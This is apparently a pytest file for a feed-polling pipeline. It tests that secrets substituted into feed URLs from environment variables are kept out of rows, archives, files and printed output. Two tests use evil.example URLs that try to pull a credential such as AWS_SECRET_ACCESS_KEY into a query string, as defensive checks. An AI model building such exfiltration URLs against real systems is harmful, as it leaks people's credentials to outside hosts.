"""A secret that a feed's address names reaches its server, and no row, archive, file or output."""

import gzip
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import apache_beam as beam
import pytest
from apache_beam.runners.portability.fn_api_runner.fn_runner import FnApiRunner

from pipelines.__main__ import main
from schemas.flow import RunContext
from schemas.rows import Feed
from schemas.vocabulary import Rejected
from tests.conftest import Site
from transforms.feeds import PollFeeds
from transforms.opml import read_feed_list
from transforms.placeholders import ask_listed, filled, hidden, secrets_of
from transforms.web import Web, WebSettings

SECRET = "hunter2/s3cr3t+"
WRITTEN = "hunter2%2Fs3cr3t%2B"
CONTEXT = RunContext(run_id="r1", now=datetime(2026, 3, 9, 18, tzinfo=UTC))
LISTED = "http://paper.example/private/${DATELINE_PAPER}/feed?token=${DATELINE_PAPER}"
BODY = f"""<rss version='2.0'><channel><title>Meldt Post</title>
<link>http://paper.example/?token={SECRET}</link>
<item><title>One</title><link>/1?token={WRITTEN}</link></item>
<item><title>{SECRET}</title></item></channel></rss>""".encode()

FOUND: list[Any] = []


@pytest.fixture(autouse=True)
def planted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATELINE_PAPER", SECRET)
    monkeypatch.setenv("DATELINE_OTHER", "another-secret")


def listed(tmp_path: Path, *addresses: str) -> list[Feed]:
    """Read a list of feeds, as a run does."""
    (tmp_path / "feeds.txt").write_text("\n".join(addresses))
    return read_feed_list(tmp_path / "feeds.txt", CONTEXT)


def poll(feeds: list[Feed], site: Site, tmp_path: Path) -> list[Any]:
    """Poll feeds; give all rows and entries."""
    FOUND.clear()
    web = WebSettings(connect_to=site.address, host_delay_s=0, lanes=str(tmp_path / "lanes"))
    with beam.Pipeline(runner=FnApiRunner()) as pipeline:
        polled = pipeline | beam.Create(feeds) | PollFeeds(CONTEXT, web, str(tmp_path / "warc"))
        _ = (polled.rows, polled.elements) | beam.Flatten() | beam.Map(keep)
    return FOUND


def keep(row: Any) -> None:
    """Keep what a pipeline in this process gives."""
    FOUND.append(row)


def test_a_secret_reaches_its_server_and_nothing_that_is_kept(site: Site, tmp_path: Path) -> None:
    path = f"/private/{WRITTEN}/feed?token={WRITTEN}"
    moved = f"http://paper.example/moved?token={WRITTEN}"
    site.put(f"paper.example{path}", b"", f"Location: {moved}", status="301 Moved")
    site.put(f"paper.example/moved?token={WRITTEN}", BODY, f"X-Token: {SECRET}", kind="text/xml")
    kept = repr(poll(listed(tmp_path, LISTED), site, tmp_path))
    assert len(site.asked(path)) == 1
    assert "Meldt Post" in kept
    assert "/1?token=${DATELINE_PAPER}" in kept.replace("$%7B", "${").replace("%7D", "}")
    [archived] = [gzip.decompress(path.read_bytes()) for path in (tmp_path / "warc").iterdir()]
    assert b"WARC-Type: response" in archived
    kept += archived.decode("latin-1")
    kept += " ".join(str(p) + repr(p.read_bytes()) for p in tmp_path.rglob("*") if p.is_file())
    assert SECRET not in kept
    assert WRITTEN not in kept


def test_what_a_server_writes_is_never_filled_in(site: Site, tmp_path: Path) -> None:
    asked = "http://evil.example/feed?token=${DATELINE_OTHER}"
    for url, feed in ((asked, LISTED), (asked, None), (LISTED.replace("PAPER", "OTHER"), LISTED)):
        web = Web(WebSettings(connect_to=site.address, host_delay_s=0))
        ask_listed(web, url, feed).result()
        web.close()
    sent = " ".join(request.path for request in site.requests)
    assert sent.count("DATELINE_OTHER") == 4
    assert "another-secret" not in sent


def test_a_secret_that_is_not_there_is_a_rejection_that_names_it(
    site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("DATELINE_PAPER")
    kept = repr(poll(listed(tmp_path, LISTED), site, tmp_path))
    assert "the environment lacks DATELINE_PAPER" in kept
    assert not site.requests
    monkeypatch.setenv("DATELINE_PAPER", "short")
    with pytest.raises(Rejected, match="too short to be a secret"):
        secrets_of(LISTED)


def test_a_list_cannot_ask_for_what_is_no_secret_of_ours(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "another-secret")
    assert secrets_of("http://evil.example/?key=${AWS_SECRET_ACCESS_KEY}") == {}


def test_hiding_undoes_filling_in() -> None:
    secrets = secrets_of(LISTED)
    assert SECRET not in filled(LISTED, secrets)
    assert WRITTEN in filled(LISTED, secrets)
    assert hidden(filled(LISTED, secrets), secrets) == LISTED
    assert hidden(SECRET, secrets) == "${DATELINE_PAPER}"


def test_a_check_of_feeds_prints_no_secret(
    site: Site, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    listed(tmp_path, LISTED, "http://ann:hunter2@paper.example/none")
    site.put(f"paper.example/private/{WRITTEN}/feed?token={WRITTEN}", BODY, kind="text/xml")
    asking = ("--feeds", str(tmp_path / "feeds.txt"), "--connect-to", site.address)
    main(["feeds", "check", *asking, "--format", "json"])
    told = "".join(capsys.readouterr())
    assert "Meldt Post" in told
    assert "hunter2" not in told


def test_a_list_that_cannot_be_read_is_told_without_its_password(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "feeds.txt").write_text("htps://ann:hunter2@paper.example/feed\n")
    assert main(["feeds", "list", "--feeds", str(tmp_path / "feeds.txt")]) == 2
    told = "".join(capsys.readouterr())
    assert "htps://***@paper.example/feed" in told
    assert "hunter2" not in told
